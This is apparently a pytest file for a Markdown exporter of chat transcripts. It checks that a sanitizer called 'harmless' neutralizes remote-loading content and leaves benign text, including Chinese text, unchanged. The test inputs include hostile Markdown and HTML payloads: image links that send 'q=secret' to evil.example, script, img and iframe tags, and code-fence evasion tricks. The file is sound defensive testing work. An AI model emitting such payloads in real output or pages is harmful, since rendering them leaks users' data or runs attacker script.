"""An exported conversation as Markdown: readable, and harmless wherever it is opened."""

from __future__ import annotations

from dataclasses import replace

import pytest
from markdown_it import MarkdownIt
from tests.scripted_engine import EXPORT

from studiolo.transcripts import TranscriptWords, harmless, transcript_markdown


def test_the_branch_that_is_shown_with_its_sources() -> None:
    assert transcript_markdown(EXPORT) == (
        "# How long? 多久\n\n> How long?\n> \\<b>多久\\</b>\n\nTwelve months [1]. \\![x](http://evil.example/?q)\n\n"
        "- \\[1\\] 租约 lease.pdf, p. 3: “twelve months”\n"
    )


def test_words_of_another_language() -> None:
    cited = replace(EXPORT.turns[0].citations[0], verified=False)
    turn = replace(EXPORT.turns[0], citations=(cited,), state="cancelled", answer="")
    words = TranscriptWords("未命名", "第 {page} 页", "（未找到）", "（未完成）")
    text = transcript_markdown(replace(EXPORT, title="", turns=(turn,)), words)
    assert text.startswith("# 未命名\n")
    assert "*（未完成）*" in text
    assert "租约 lease.pdf, 第 3 页: “twelve months” （未找到）" in text


@pytest.mark.parametrize(
    "markdown",
    [
        "![x](http://evil.example/p.png?q=secret)",
        "![x][1]\n\n[1]: http://evil.example/p.png",
        "<img src=http://evil.example/p.png>",
        "看<img src='http://evil.example'>图",
        "<!-- x --><script src=//evil.example/x.js></script>",
        "`` code `` ![x](//evil.example/p.png)",
        "```\ncode\n```\n![x](http://evil.example/p.png)",
        "~~~\n```\n~~~\n<iframe src=http://evil.example>",
        "> ![x](http://evil.example/p.png)",
    ],
)
def test_nothing_is_loaded_by_a_program_that_renders_the_file(markdown: str) -> None:
    html = MarkdownIt("commonmark", {"html": True}).render(harmless(markdown))
    assert "<img" not in html
    assert "<script" not in html
    assert "<iframe" not in html


@pytest.mark.parametrize(
    "markdown", ["a < b and 3 < 4!", "`<img>` and `![x](y)`", "```html\n<img src=x>\n```", "1. 一\n2. 二"]
)
def test_what_is_harmless_stays_as_it_is(markdown: str) -> None:
    assert harmless(markdown) == markdown
